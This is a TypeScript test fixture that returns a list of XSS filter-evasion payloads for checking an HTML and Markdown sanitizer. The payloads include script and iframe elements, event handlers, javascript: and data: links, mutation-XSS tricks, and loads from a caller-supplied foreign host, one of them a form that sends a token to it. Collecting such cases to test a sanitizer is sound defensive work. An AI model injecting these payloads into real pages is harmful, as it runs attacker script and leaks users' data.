/**
 * Texts that make careless pages run a script or load from a foreign server: the usual lists (OWASP's cheat sheet on XSS
 * filter evasion, DOMPurify's own tests, Markdown's links and pictures). Each calls `hacked()`, or loads from the given
 * address.
 */
export function scriptsInTexts(elsewhere: string): string[] {
	const run = 'hacked()';
	return [
		...elements(run, elsewhere),
		...handlers(run),
		...addresses(run),
		...mutations(run),
		...markdown(run, elsewhere),
	];
}

const elements = (run: string, elsewhere: string) => [
	`<script>${run}</script>`,
	`<SCRIPT SRC=${elsewhere}/x.js></SCRIPT>`,
	`<scr<script>ipt>${run}</scr</script>ipt>`,
	`<script\n>${run}</script\n>`,
	`<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
	`<iframe src="${elsewhere}/frame"></iframe>`,
	`<object data="${elsewhere}/object"></object>`,
	`<embed src="${elsewhere}/embed">`,
	`<link rel=stylesheet href="${elsewhere}/x.css">`,
	`<style>@import '${elsewhere}/x.css';</style>`,
	`<base href="${elsewhere}/">`,
	`<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
	`<form action="${elsewhere}"><input name=token><button>Send</button></form>`,
	`<img src="${elsewhere}/pixel.png">`,
	`<img srcset="${elsewhere}/pixel.png 1x">`,
	`<picture><source srcset="${elsewhere}/p.png"><img src="data:,"></picture>`,
	`<video poster="${elsewhere}/p.png" src="${elsewhere}/v.mp4"></video>`,
	`<audio src="${elsewhere}/a.mp3" autoplay></audio>`,
	`<table background="${elsewhere}/b.png"><tr><td>x</td></tr></table>`,
	`<div style="background:url(${elsewhere}/b.png)">x</div>`,
	`<svg><image href="${elsewhere}/i.png"/></svg>`,
	`<input type=image src="${elsewhere}/i.png">`,
];

const handlers = (run: string) => [
	`<img src=x onerror=${run}>`,
	`<img src=x:x onerror="${run}" />`,
	`<img/src="x"/onerror=${run}>`,
	`<img """><script>${run}</script>">`,
	`<svg onload=${run}>`,
	`<svg/onload=${run}>`,
	`<svg><script>${run}</script></svg>`,
	`<svg><animate onbegin=${run} attributeName=x dur=1s>`,
	`<svg><set onbegin=${run} attributeName=x>`,
	`<body onload=${run}>`,
	`<input autofocus onfocus=${run}>`,
	`<select autofocus onfocus=${run}>`,
	`<textarea autofocus onfocus=${run}>`,
	`<details open ontoggle=${run}>x</details>`,
	`<video><source onerror="${run}"></video>`,
	`<audio src onerror=${run}>`,
	`<marquee onstart=${run}>x</marquee>`,
	`<p style="animation:x" onanimationstart=${run}>x</p>`,
	`<dialog open onclose=${run}>x</dialog>`,
	`<object data=x onerror=${run}></object>`,
];

const addresses = (run: string) => [
	`<a href="javascript:${run}">x</a>`,
	`<a href="JaVaScRiPt:${run}">x</a>`,
	`<a href="java\tscript:${run}">x</a>`,
	`<a href="&#106;avascript:${run}">x</a>`,
	`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${run}">x</a>`,
	`<a href=" javascript:${run}">x</a>`,
	`<a href="vbscript:${run}">x</a>`,
	`<a href="data:text/html,<script>parent.${run}</script>">x</a>`,
	`<iframe src="javascript:parent.${run}"></iframe>`,
	`<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
	`<math><a xlink:href="javascript:${run}">x</a></math>`,
	`<form><button formaction="javascript:${run}">x</button></form>`,
	`<img src="javascript:${run}">`,
];

const mutations = (run: string) => [
	`<noscript><p title="</noscript><img src=x onerror=${run}>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
	`<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
	`<template><img src=x onerror=${run}></template>`,
	`<xmp><p title="</xmp><img src=x onerror=${run}>">`,
	`<!--><img src=x onerror=${run}>-->`,
	`<![CDATA[><img src=x onerror=${run}>]]>`,
	`<img name=getElementById><a id=location href=x>`,
	`<p id="__proto__" class="badge" data-state="completed">x</p>`,
];

const markdown = (run: string, elsewhere: string) => [
	`[x](javascript:${run})`,
	`[x](JAVASCRIPT:${run})`,
	`[x](javascript&colon;${run})`,
	`[x](data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==)`,
	`[x]: javascript:${run}\n\n[x]`,
	`<javascript:${run}>`,
	`![x](${elsewhere}/pixel.png)`,
	`![x](javascript:${run})`,
	`![x"onerror="${run}](x)`,
	`[x](x "onmouseover=${run} ")`,
	`\`\`\`html"><img src=x onerror=${run}>\n\`\`\``,
	`<details><summary>x</summary><script>${run}</script></details>`,
];
